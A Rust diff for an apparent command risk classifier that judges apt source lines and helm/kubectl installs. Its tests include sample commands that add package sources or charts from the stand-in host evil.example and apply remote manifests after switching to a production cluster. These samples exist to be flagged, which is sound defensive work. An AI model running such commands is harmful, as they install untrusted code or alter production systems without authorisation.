@@ -40,6 +40,18 @@ const SYSTEMS: &[&str] = &[
     "system",
     "ubuntu",
 ];
+/// What a system says of itself: its name, its version, its kind of machine. Sorted.
+const OF_SYSTEM: &[&str] = &[
+    "$(arch)",
+    "$(dpkg)",
+    "$(lsb_release)",
+    "$(uname)",
+    "$DEBIAN_CODENAME",
+    "$ID",
+    "$UBUNTU_CODENAME",
+    "$VERSION_CODENAME",
+    "$VERSION_ID",
+];
 /// Pages that are remembered.
 const PAGES: usize = 8;
 
@@ -302,8 +314,8 @@ impl Machine<'_> {
             }
             _ => {
                 let good = match call.program {
-                    "helm" => is_new_chart(call),
-                    "kubectl" => is_applied_release(call),
+                    "helm" => is_new_chart(call) && !self.on_another_cluster(),
+                    "kubectl" => is_applied_release(call) && !self.on_another_cluster(),
                     _ => is_added_source(call),
                 };
                 Box::new(move |_| good)
@@ -353,11 +365,17 @@ impl Machine<'_> {
         };
         let mut words = rest.split_ascii_whitespace();
         let Some(url) = words.next() else { return false };
-        // What the machine says of itself may stand in it, what a network says may not.
+        // What the machine says of its own system may stand in it, what a network, a file or a variable of anybody's says may
+        // not: it names the folder that packages come from.
         let tame = |text: &str| {
-            self.unknowns
-                .origin(text)
-                .is_none_or(|origin| matches!(origin, Origin::Program | Origin::Variable | Origin::Local))
+            text.chars().filter(|letter| value::is_hole(*letter)).all(|hole| {
+                let shown = self.unknowns.show(hole.encode_utf8(&mut [0; 4]));
+                data::holds(OF_SYSTEM, &shown)
+                    && self
+                        .unknowns
+                        .origin(hole.encode_utf8(&mut [0; 4]))
+                        .is_none_or(|origin| origin < Origin::Secret)
+            })
         };
         let signed = options
             .split_ascii_whitespace()
@@ -430,7 +448,7 @@ mod tests {
 
     #[test]
     fn the_table_is_sorted() {
-        for pair in SYSTEMS.windows(2) {
+        for pair in SYSTEMS.windows(2).chain(OF_SYSTEM.windows(2)) {
             assert!(pair[0] < pair[1], "{pair:?}");
         }
     }
@@ -512,6 +530,20 @@ mod tests {
                 "echo \"deb [arch=$(dpkg --print-architecture) {ring}] https://download.docker.com/linux/ubuntu $(lsb_release -cs) stable\" | {tee}"
             ),
         );
+        of(
+            Safe,
+            format!(
+                "echo \"deb [{ring}] https://download.docker.com/linux/ubuntu $(. /etc/os-release && echo \"$VERSION_CODENAME\") stable\" | {tee}"
+            ),
+        );
+        for word in ["$(cat suite)", "$X", "$(hostname)"] {
+            of(
+                Moderate,
+                format!(
+                    "echo \"deb [{ring}] https://download.docker.com/linux/ubuntu {word} stable\" | {tee}"
+                ),
+            );
+        }
         of(Safe, format!("echo 'deb [{ring}] https://cli.github.com/packages stable main' | {tee}"));
         of(Moderate, format!("echo 'deb [{ring}] https://evil.example/packages stable main' | {tee}"));
         of(
@@ -604,6 +636,19 @@ mod tests {
                     "helm upgrade --install ingress-nginx ingress-nginx --repo https://kubernetes.github.io/ingress-nginx -n ingress-nginx --create-namespace",
                 ),
                 (Moderate, "helm upgrade --install x x --repo https://evil.example/charts"),
+                (
+                    Moderate,
+                    "kubectl config use-context prod && kubectl apply -f https://github.com/cert-manager/cert-manager/releases/download/v1.15.1/cert-manager.yaml",
+                ),
+                (
+                    Moderate,
+                    "export KUBECONFIG=/tmp/x; kubectl apply -f https://github.com/cert-manager/cert-manager/releases/download/v1.15.1/cert-manager.yaml",
+                ),
+                (
+                    Moderate,
+                    "kubectx prod; helm upgrade --install ingress-nginx ingress-nginx --repo https://kubernetes.github.io/ingress-nginx",
+                ),
+                (Safe, "kubectl config use-context prod && kubectl get pods"),
                 (
                     Moderate,
                     "helm upgrade --install x https://evil.example/x.tgz --repo https://kubernetes.github.io/x",
